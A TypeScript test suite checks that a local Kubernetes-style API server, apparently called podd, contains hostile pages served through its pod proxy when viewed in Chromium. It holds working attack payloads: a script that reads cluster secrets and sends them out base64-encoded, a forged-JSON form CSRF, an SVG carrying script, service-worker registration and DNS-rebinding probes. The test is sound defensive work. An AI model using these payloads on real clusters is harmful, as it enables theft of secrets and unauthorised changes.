import { createServer } from 'node:http'
import type { Server } from 'node:http'
import { connect, createServer as createTunnel } from 'node:net'
import type { Server as TunnelServer, Socket } from 'node:net'
import { networkInterfaces } from 'node:os'
import { join } from 'node:path'
import { connect as connectTls, createServer as createTlsTunnel } from 'node:tls'
import { build } from 'rolldown'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { pageOptions } from '../../rolldown.config.ts'
import { issueCertificate } from '../../src/server/access/own-authority.ts'
import { Chromium, chromiumPath } from '../support/chromium.ts'
import { freePort } from '../support/free-port.ts'
import { podObject } from '../support/pod-objects.ts'
import { slowness } from '../support/slowness.ts'
import { readKubeconfig } from '../support/tls-client.ts'
import { startWritingRig } from '../support/writing-rig.ts'
import type { WritingRig } from '../support/writing-rig.ts'

/** An address of this machine that a pod could have. */
const address = Object.values(networkInterfaces())
  .flat()
  .find(
    (found) => found?.family === 'IPv4' && !found.internal && !found.address.startsWith('169.254.'),
  )?.address

const configMaps = '/api/v1/namespaces/default/configmaps'
const proxy = '/api/v1/namespaces/default/pods/evil/proxy'

/** Does all that a page of podd's own origin could do, and says in its title that it ran. */
const attack = `
  document.title = 'taken'
  const taken = { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'by-script' } }
  fetch('${configMaps}', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(taken) })
  fetch('/api/v1/secrets').then((answer) => answer.text()).then((text) => fetch('${proxy}/stolen?' + btoa(text)))
  navigator.serviceWorker?.register('${proxy}/worker.js', { scope: '/' })
  document.cookie = 'by-script=1; path=/'
`

const page = `<!doctype html>
<title>quiet</title>
<meta http-equiv="set-cookie" content="by-meta=1; path=/">
<body onload="document.forms[0].submit()">
<p>a page of a pod</p>
<form method="post" enctype="text/plain" action="${configMaps}">
  <input name='{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"by-form"},"data":{"x":"' value='"}}'>
  <button id="send">send</button>
</form>
<iframe src="/ui" srcdoc="<script>top.document.title = 'taken by frame'</script>"></iframe>
<img src="${proxy}/image">
<script>${attack}</script>
<script src="${proxy}/script.js"></script>
</body>`

const drawing = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><title>quiet</title><script>${attack.replaceAll('&', '&amp;').replaceAll('=>', '=&gt;')}</script></svg>`

describe.skipIf(chromiumPath === undefined || address === undefined)(
  'a hostile page of a pod, in Chromium',
  () => {
    let rig: WritingRig
    let tab: Chromium
    let pod: Server
    let port: number
    const tunnels: TunnelServer[] = []
    const open = new Set<Socket>()
    /** What the server in the pod was asked for. */
    const asked: string[] = []
    /** Where a browser reaches podd as an administrator, without a token. */
    const origins = { 'a tunnel to the socket': '', 'a client certificate': '' }

    beforeAll(async () => {
      rig = await startWritingRig()
      await build(pageOptions(join(rig.directory, 'page')))
      rig.page = {
        directory: join(rig.directory, 'page'),
        usage: () => {
          throw new Error('not asked for')
        },
      }
      await rig.close(0)
      const apiPort = await freePort()
      const host = '127.0.0.1'
      await rig.listen({
        address: { host, port: apiPort },
        names: ['localhost', host],
        rootDir: rig.directory,
        tokenFile: undefined,
        report: () => {},
      })
      const kubeconfig = await rig.call('/podd/v1/kubeconfig?user=ann&role=admin', 'POST')
      const login = readKubeconfig(kubeconfig.text)
      const untilMs = Date.now() + 86_400_000
      const shown = issueCertificate({
        subject: { commonName: 'localhost' },
        use: { kind: 'server', names: ['localhost'] },
        fromMs: Date.now() - 86_400_000,
        untilMs,
      })
      const join2 = (from: Socket, to: Socket): void => {
        for (const socket of [from, to]) {
          open.add(socket)
          socket.once('close', () => open.delete(socket))
        }
        from.on('error', () => to.destroy()).pipe(to)
        to.on('error', () => from.destroy()).pipe(from)
      }
      // For podd they are a user's tunnel, and a browser with a client certificate: it sees all that the browser sends.
      const socketPort = await freePort()
      const certificatePort = await freePort()
      tunnels.push(
        createTunnel((from) => join2(from, connect(rig.socketPath))).listen(socketPort, host),
        createTlsTunnel({ key: shown.key, cert: shown.certificate }, (from) =>
          join2(from, connectTls({ host, port: apiPort, ca: login.ca, cert: login.cert, key: login.key })),
        ).listen(certificatePort, host),
      )
      origins['a tunnel to the socket'] = `http://localhost:${socketPort}`
      origins['a client certificate'] = `https://localhost:${certificatePort}`
      pod = createServer((request, response) => {
        asked.push(`${request.method} ${request.url}`)
        const { url = '' } = request
        const type = url.endsWith('.svg')
          ? 'image/svg+xml'
          : url.endsWith('.js')
            ? 'text/javascript'
            : 'text/html'
        if (url.startsWith('/to?')) {
          response.writeHead(302, { location: decodeURIComponent(url.slice('/to?'.length)) }).end()
          return
        }
        response.writeHead(200, {
          'content-type': type,
          'service-worker-allowed': '/',
          'set-cookie': 'by-header=1; path=/',
          'content-security-policy': "script-src 'unsafe-inline' *",
        })
        const text = url.endsWith('.svg') ? drawing : url.endsWith('.js') ? attack : page
        response.end(url === '/quiet' ? '<!doctype html><title>quiet</title>' : text)
      })
      await new Promise<void>((ready) => pod.listen(0, address, ready))
      const bound = pod.address()
      port = bound === null || typeof bound === 'string' ? 0 : bound.port
      const spec = { containers: [{ name: 'main', ports: [{ containerPort: port }] }] }
      rig.pods.put({
        ...podObject({ name: 'evil', status: { phase: 'Running', podIP: address ?? '' } }),
        spec,
      })
      const secret = {
        apiVersion: 'v1',
        kind: 'Secret',
        metadata: { name: 'key' },
        data: { key: 'c2VjcmV0' },
      }
      await rig.ask('POST', '/api/v1/namespaces/default/secrets', secret)
      tab = await Chromium.start(chromiumPath ?? '', [
        `--host-resolver-rules=MAP evil.example ${address}, MAP renamed.example 127.0.0.1`,
      ])
    })

    afterAll(async () => {
      await tab?.close()
      for (const socket of open) socket.destroy()
      for (const server of tunnels) server.close()
      pod?.close()
      await rig?.[Symbol.asyncDispose]()
    })

    const goTo = async (url: string): Promise<void> => {
      // What the page before asks for is over then.
      await tab.open('about:blank')
      asked.length = 0
      await tab.open(url)
    }

    const shows = (text: string) =>
      expect.poll(() => tab.text(), { timeout: 10_000 * slowness }).toContain(text)

    /** What a script of the page that is open comes to, with a line for each thing that it tried. */
    const trial = (): Promise<unknown> =>
      tab.evaluate(`(async () => {
        const tried = async (what) => { try { return await what() } catch (error) { return error.name } }
        return {
          origin: self.origin,
          create: await tried(async () => (await fetch('${configMaps}', {
            method: 'POST',
            headers: { 'content-type': 'application/json' },
            body: JSON.stringify({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'tried' } }),
          })).status),
          secrets: await tried(async () => (await (await fetch('/api/v1/secrets')).json()).items.length),
          cookie: await tried(() => { document.cookie = 'tried=1; path=/'; return document.cookie }),
          storage: await tried(() => { localStorage.setItem('tried', '1'); return 'kept' }),
          worker: await tried(async () => { await navigator.serviceWorker.register('${proxy}/worker.js'); return 'registered' }),
        }
      })()`)

    const reached = ['a tunnel to the socket', 'a client certificate'] as const

    describe.each(reached)('through %s', (way) => {
      it('meets an origin whose own page may do everything', async () => {
        await goTo(`${origins[way]}/ui`)
        await shows('Pods')
        expect(await trial()).toMatchObject({
          origin: origins[way],
          create: 201,
          secrets: 1,
          storage: 'kept',
        })
        await rig.ask('DELETE', `${configMaps}/tried`)
        await tab.send('Network.clearBrowserCookies')
      })

      it.each([
        ['page', '/'],
        ['drawing', '/a.svg'],
      ])('runs no script of a %s, sends no form and keeps nothing', async (_, path) => {
        await goTo(`${origins[way]}${proxy}${path}`)
        await expect.poll(() => tab.evaluate('document.readyState')).toBe('complete')
        await expect.poll(() => asked).toEqual([`GET ${path}`])
        if (path === '/') {
          await shows('a page of a pod')
          await tab.evaluate(`document.getElementById('send').click()`)
        }
        expect(await tab.evaluate('document.querySelector("title").textContent')).toBe('quiet')
        expect(await trial()).toEqual({
          origin: 'null',
          create: 'TypeError',
          secrets: 'TypeError',
          cookie: 'SecurityError',
          storage: 'SecurityError',
          worker: expect.stringMatching(/Error$/u),
        })
        // Neither the image nor a script of the page came from the pod, and nothing was sent to it.
        expect(asked).toEqual([`GET ${path}`])
        expect(rig.configmaps.list().map(({ metadata }) => metadata.name)).toEqual([])
        const { cookies } = await tab.send('Network.getAllCookies')
        expect(cookies).toEqual([])
        await goTo(`${origins[way]}/ui`)
        await shows('Pods')
        const workers = 'navigator.serviceWorker.getRegistrations().then((all) => all.length)'
        expect(await tab.evaluate(workers)).toBe(0)
      })

      it('is not reached by a link of another site, nor as a script of podd’s own page', async () => {
        const target = `${origins[way]}${proxy}/danger`
        const link = `<a href="${target}">go</a>`
        await goTo(`data:text/html,${encodeURIComponent(link)}`)
        await shows('go')
        await tab.evaluate('document.querySelector("a").click()')
        await shows('the request comes from a page of another site')
        expect(asked).toEqual([])
        await goTo(`${origins[way]}/ui`)
        await shows('Pods')
        const load = `new Promise((resolve) => {
          const script = document.createElement('script')
          script.onload = () => resolve('loaded')
          script.onerror = () => resolve('failed')
          script.src = trustedTypes.createPolicy('test', { createScriptURL: (url) => url }).createScriptURL('${proxy}/script.js')
          document.head.append(script)
        })`
        expect(await tab.evaluate(load)).toBe('failed')
        expect(asked).toEqual([])
      })

      it('opens no WebSocket for a page of another site', async () => {
        const socket = `new Promise((resolve) => {
          const socket = new WebSocket('${origins[way].replace('http', 'ws')}/api/v1/pods?watch=true')
          socket.onopen = () => resolve('open')
          socket.onerror = () => resolve('refused')
        })`
        await goTo(`${origins[way]}/ui`)
        await shows('Pods')
        expect(await tab.evaluate(socket)).toBe('open')
        // The page of the pod itself goes elsewhere as soon as it is loaded.
        for (const other of ['data:text/html,other', `http://evil.example:${port}/quiet`]) {
          await goTo(other)
          await expect.poll(() => tab.evaluate('document.readyState')).toBe('complete')
          expect(await tab.evaluate(socket)).toBe('refused')
        }
      })

      it('sends no browser off to another pod by a redirect', async () => {
        const target = `${origins[way]}${proxy}/danger`
        await goTo(`${origins[way]}${proxy}/to?${encodeURIComponent(target)}`)
        await shows('which is not in the pod')
        expect(asked).toEqual([`GET /to?${encodeURIComponent(target)}`])
      })
    })

    it('reaches the socket through no tunnel by a name of its own, as with DNS rebinding', async () => {
      const [tunnel] = /\d+$/u.exec(origins['a tunnel to the socket']) ?? []
      await goTo(`http://renamed.example:${tunnel}/api/v1/secrets`)
      await shows('renamed.example')
      expect(await tab.text()).toContain("browsers reach podd's socket as localhost")
      expect(await tab.text()).not.toContain('c2VjcmV0')
    })
  },
)
